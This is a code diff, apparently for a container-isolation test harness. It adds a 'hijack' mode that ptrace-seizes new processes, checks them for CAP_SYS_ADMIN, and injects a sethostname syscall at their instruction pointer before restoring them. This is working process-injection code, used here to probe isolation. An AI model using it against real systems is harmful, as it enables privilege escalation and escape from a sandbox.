@@ -30,6 +30,8 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ptrace.h>
+#include <sys/syscall.h>
+#include <sys/user.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -133,6 +135,63 @@ static void probe(FILE *log, int pid)
     fflush(log);
 }
 
+
+/* CapEff of pid, from /proc/PID/status (0 when unreadable). */
+static unsigned long long cap_eff(int pid)
+{
+    char path[64], st[4096];
+    snprintf(path, sizeof(path), "/proc/%d/status", pid);
+    ssize_t n = read_all(path, st, sizeof(st) - 1);
+    if (n <= 0)
+        return 0;
+    st[n] = '\0';
+    char *c = strstr(st, "CapEff:");
+    return c ? strtoull(c + 7, NULL, 16) : 0;
+}
+
+/* `hijack` mode: seize and stop each new process; when it still holds
+ * CAP_SYS_ADMIN (which the container lacks), make it run
+ * sethostname("hijacked") (a syscall injected at its instruction
+ * pointer), then put it back as it was. One line per pid:
+ *   hijack PID seized=0|1 capeff=HEX injected=RESULT */
+static void hijack(FILE *log, int pid)
+{
+    long injected = 1; /* not tried */
+    int seized = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
+    unsigned long long caps = 0;
+    if (seized && ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) {
+        int st;
+        if (waitpid(pid, &st, __WALL) == pid && WIFSTOPPED(st)) {
+            caps = cap_eff(pid);
+            struct user_regs_struct regs, r;
+            if ((caps >> 21) & 1 && ptrace(PTRACE_GETREGS, pid, 0, &regs) == 0) {
+                r = regs;
+                unsigned long text = regs.rip, data = (regs.rsp - 512) & ~15UL;
+                long old_text = ptrace(PTRACE_PEEKTEXT, pid, text, 0);
+                long old_data = ptrace(PTRACE_PEEKDATA, pid, data, 0);
+                long name;
+                memcpy(&name, "hijacked", 8);
+                ptrace(PTRACE_POKEDATA, pid, data, name);
+                ptrace(PTRACE_POKETEXT, pid, text, (old_text & ~0xffffL) | 0x050f); /* syscall */
+                r.rax = SYS_sethostname;
+                r.orig_rax = -1;
+                r.rdi = data;
+                r.rsi = 8;
+                ptrace(PTRACE_SETREGS, pid, 0, &r);
+                if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) == 0 && waitpid(pid, &st, __WALL) == pid &&
+                    WIFSTOPPED(st) && ptrace(PTRACE_GETREGS, pid, 0, &r) == 0)
+                    injected = (long)r.rax;
+                ptrace(PTRACE_POKETEXT, pid, text, old_text);
+                ptrace(PTRACE_POKEDATA, pid, data, old_data);
+                ptrace(PTRACE_SETREGS, pid, 0, &regs);
+            }
+            ptrace(PTRACE_DETACH, pid, 0, 0);
+        }
+    }
+    fprintf(log, "hijack %d seized=%d capeff=%llx injected=%ld\n", pid, seized, caps, injected);
+    fflush(log);
+}
+
 static const char *errname(int ok, int e)
 {
     return ok             ? "ok"
@@ -194,9 +253,12 @@ static void attack(FILE *log, int pid)
 int main(int argc, char **argv)
 {
     int write_mode = argc == 3 && strcmp(argv[2], "write") == 0;
-    if (!write_mode && !(argc == 4 && strcmp(argv[2], "read") == 0))
+    int hijack_mode = argc == 3 && strcmp(argv[2], "hijack") == 0;
+    if (hijack_mode)
+        write_mode = 0;
+    else if (!write_mode && !(argc == 4 && strcmp(argv[2], "read") == 0))
         return 2;
-    if (!write_mode) {
+    if (!write_mode && !hijack_mode) {
         secret_len = strlen(argv[3]);
         if (secret_len == 0 || secret_len >= sizeof(secret))
             return 2;
@@ -222,7 +284,9 @@ int main(int argc, char **argv)
             int now = atoi(v);
             for (int p = last + 1; p <= now; p++)
                 if (p != getpid()) {
-                    if (write_mode)
+                    if (hijack_mode)
+                        hijack(log, p);
+                    else if (write_mode)
                         attack(log, p);
                     else
                         probe(log, p);
